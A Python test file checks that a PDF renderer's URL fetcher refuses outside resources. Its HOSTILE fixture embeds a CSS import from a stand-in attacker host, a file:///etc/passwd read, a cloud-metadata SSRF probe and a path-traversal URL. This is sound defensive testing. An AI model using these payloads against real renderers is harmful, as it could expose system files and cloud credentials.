"""The renderer fetches nothing from outside: no local files, no other hosts, no big data: URLs."""
import base64

import pytest

from core.pdf import render_html, safe_url_fetcher
from packs.models import Pack
from packs.services import pack_build

from tests.packs.factories import pack_meeting, page_texts, pdf_bytes

HOSTILE = (
    '<style>@import url("https://evil.example/steal.css");</style>'
    '<p>HOSTILETEXT <img src="file:///etc/passwd" alt=""> <img src="http://169.254.169.254/latest/meta-data/" alt=""></p>'
)


@pytest.fixture
def opened(monkeypatch):
    """Every URL that urllib is asked to open, anywhere in this process."""
    import urllib.request

    seen = []
    original = urllib.request.OpenerDirector.open

    def spy(self, url, *args, **kwargs):
        seen.append(getattr(url, "full_url", url))
        return original(self, url, *args, **kwargs)

    monkeypatch.setattr(urllib.request.OpenerDirector, "open", spy)
    return seen


def test_fetcher_refuses_local_files_other_hosts_and_remote_css(opened):
    result = render_html(f"<html lang='en-GB'><body>{HOSTILE}</body></html>")
    assert set(result.refused) == {
        "https://evil.example/steal.css", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/"}
    assert opened == []
    assert result.page_count == 1


def test_fetcher_serves_our_static_files_and_small_data_urls_only():
    fetcher = safe_url_fetcher()
    assert fetcher.fetch("https://quorum.invalid/static/packs/pack.css").read().startswith(b"/*")
    pixel = base64.b64encode(b"GIF89a" + b"\0" * 20).decode()
    assert fetcher.fetch(f"data:image/gif;base64,{pixel}").read().startswith(b"GIF89a")
    big = "data:text/plain;base64," + base64.b64encode(b"x" * (3 * 1024 * 1024)).decode()
    for url in ("file:///etc/passwd", "https://quorum.invalid/static/../../etc/passwd",
                "https://quorum.invalid/etc/passwd", "http://quorum.invalid/static/packs/pack.css",
                "https://example.org/static/packs/pack.css", "ftp://example.org/x", big):
        with pytest.raises(ValueError):
            fetcher.fetch(url)


def test_hostile_report_still_renders_and_nothing_is_fetched(board, clerk, opened, monkeypatch):
    meeting = pack_meeting(board)
    report = meeting.items.get(position=4).reports.get()
    # As if the sanitiser (on save and again on display) had missed it: the renderer is the last wall.
    monkeypatch.setattr("core.sanitise.sanitise_html", lambda html: html)
    type(report).objects.filter(pk=report.pk).update(background=HOSTILE)
    version = pack_build(meeting_id=meeting.pk, variant=Pack.Variant.MEMBERS)
    assert version is not None
    assert "HOSTILETEXT" in "".join(page_texts(pdf_bytes(version)))
    assert set(version.stats["refused_urls"]) == {
        "https://evil.example/steal.css", "file:///etc/passwd", "http://169.254.169.254/latest/meta-data/"}
    assert [u for u in opened if "evil" in str(u) or "169.254" in str(u) or str(u).startswith("file:")] == []
